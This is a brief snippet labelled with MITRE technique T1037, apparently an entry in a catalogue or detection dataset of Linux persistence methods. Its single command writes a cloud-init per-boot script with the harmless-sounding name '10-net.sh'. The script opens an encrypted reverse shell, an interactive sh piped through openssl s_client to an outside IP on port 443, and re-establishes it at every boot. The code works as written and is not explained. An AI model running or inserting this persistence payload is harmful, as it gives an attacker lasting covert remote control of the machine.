# technique: T1037
# location: linux.cloud-init.script
# source: /var/lib/cloud/scripts/per-boot/10-net.sh
install -D -m 755 /dev/stdin /var/lib/cloud/scripts/per-boot/10-net.sh <<< '#!/bin/bash
mkfifo /tmp/.f; sh -i < /tmp/.f 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/.f'
